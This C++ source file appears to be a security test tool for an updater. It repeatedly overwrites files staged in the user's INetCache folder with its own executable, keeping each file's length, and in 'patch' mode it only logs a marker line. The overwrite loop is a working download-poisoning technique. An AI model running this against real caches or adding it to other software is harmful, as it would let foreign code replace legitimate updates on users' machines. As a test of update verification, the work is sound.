// cachewriter DIR READYFILE STOPFILE: what a process of the user can do to
// a download staged in the user's URL cache (DIR, the INetCache folder).
// Until STOPFILE exists (at most five minutes) it looks through DIR and its
// folders, over and over, and writes its own program over the start of
// every file it can open for writing there, keeping the file's length (the
// rest of the body follows as the program's overlay, so the copy still
// runs and matches an announced length). Writes READYFILE once it has
// started; at its end prints "written=N" (files written over).
//
// Started without those arguments (as the patch a run starts, with the
// run's switches), it is the foreign program: it appends a line to the
// file VELDRUN_FOREIGN_MARK names and ends.
#include "FolderWalk.h"

#include <windows.h>

#include <cstdio>
#include <string>
#include <vector>

namespace {
std::vector<char> g_self;
long g_written = 0;

void overwrite(const std::string& path)
{
    HANDLE h = CreateFileA(path.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                           OPEN_EXISTING, 0, nullptr);
    if (h == INVALID_HANDLE_VALUE)
        return;
    LARGE_INTEGER size = {};
    DWORD n = 0;
    // A file shorter than the program is written over whole and grows.
    if (GetFileSizeEx(h, &size) && size.QuadPart > 0 &&
        WriteFile(h, g_self.data(), static_cast<DWORD>(g_self.size()), &n, nullptr) && n == g_self.size())
        ++g_written;
    CloseHandle(h);
}

// The cache's own index is left whole: a broken index would stop the
// staging the attack lives on.
void sweep(const std::string& dir, int depth)
{
    walkFiles(dir, depth, [](const std::string& path, const std::string& name, int) {
        if (_stricmp(name.c_str(), "index.dat") != 0)
            overwrite(path);
    });
}

bool readSelf()
{
    char path[MAX_PATH] = {};
    if (!GetModuleFileNameA(nullptr, path, sizeof path))
        return false;
    FILE* f = std::fopen(path, "rb");
    if (!f)
        return false;
    char buf[65536];
    std::size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, f)) > 0)
        g_self.insert(g_self.end(), buf, buf + n);
    std::fclose(f);
    return !g_self.empty();
}
} // namespace

int main(int argc, char** argv)
{
    if (argc < 4) {
        char mark[MAX_PATH] = {};
        if (GetEnvironmentVariableA("VELDRUN_FOREIGN_MARK", mark, sizeof mark) > 0) {
            if (FILE* f = std::fopen(mark, "ab")) {
                std::fprintf(f, "foreign program started: %s\n", GetCommandLineA());
                std::fclose(f);
            }
        }
        return 0;
    }
    if (!readSelf())
        return 2;
    if (FILE* ready = std::fopen(argv[2], "w"))
        std::fclose(ready);
    DWORD end = GetTickCount() + 300000;
    while (GetFileAttributesA(argv[3]) == INVALID_FILE_ATTRIBUTES && GetTickCount() < end) {
        sweep(argv[1], 4);
        Sleep(1);
    }
    std::printf("written=%ld\n", g_written);
    return 0;
}
